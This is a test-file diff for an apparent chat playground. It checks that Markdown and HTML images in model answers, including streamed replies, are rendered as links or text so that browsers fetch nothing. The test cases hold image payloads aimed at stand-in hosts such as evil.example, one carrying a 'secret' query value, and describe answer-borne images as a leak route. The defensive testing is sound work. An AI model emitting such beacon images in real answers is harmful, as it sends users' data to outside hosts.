@@ -238,3 +238,38 @@ def test_ordinary_text_cells_are_not_cut(tmp_path):
         assert local.column_values("small.csv", None, Query(), ["text", "label"], 2)[1] == ("리뷰 1 좋아요", 1)
     finally:
         local.set_data_dir(None)
+
+
+# -- chat Markdown draws no remote images --------------------------------------------------------------------
+@pytest.mark.parametrize(("sent", "shown"), [
+    ("![x](https://evil.example/p.png?q=secret)", "[x](https://evil.example/p.png?q=secret)"),
+    ("see ![logo][1]\n\n[1]: https://evil.example/l.png", "see [logo][1]\n\n[1]: https://evil.example/l.png"),
+    ('<img src="https://evil.example/a.png">', '<\u200bimg src="https://evil.example/a.png">'),
+    ("<IMG/SRC=https://e.example/a>", "<\u200bIMG/SRC=https://e.example/a>"),
+    ('<div style="background:url(https://e.example/b)">', '<\u200bdiv style="background:url(https://e.example/b)">'),
+    ("a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)",
+     "a < b and <thinking>ok</thinking>, **bold** [link](https://hf.co)"),
+])
+def test_chat_messages_fetch_nothing_when_drawn(sent, shown):
+    """F11: an answer (or a history a client sends back) with Markdown or HTML images made every reader's browser
+    fetch from any host. The Chatbot now gets images as links and fetching tags as text."""
+    from tabs.chat import _messages, no_remote_images
+
+    assert no_remote_images(sent) == shown
+    assert _messages([{"role": "assistant", "content": sent}])[0]["content"] == shown
+
+
+def test_a_streamed_answer_is_drawn_without_images(engine, monkeypatch):
+    """F11 through the Chat tab's handler: every step it yields to the Chatbot has the images turned into links."""
+    from playground.tasks import chat as chat_task
+    from tabs import chat as chat_tab
+
+    def answer(*args, **kwargs):
+        for text in ("![a](https://evil.example/1.png)", "![a](https://evil.example/1.png) <img src=//e.example/2>"):
+            yield chat_task.Reply(text, "tiny/chat", 0)
+
+    monkeypatch.setattr(chat_task, "stream_reply", answer)
+    monkeypatch.setattr(chat_task, "code_snippet", lambda *a, **k: "")
+    steps = list(chat_tab.respond(engine, "![me](https://evil.example/me.png)", [], "", "", 0.7, 0.9, 16, 1.0))
+    drawn = [m["content"] for conversation, *_ in steps for m in conversation]
+    assert drawn and not any("![" in text or "<img" in text for text in drawn)
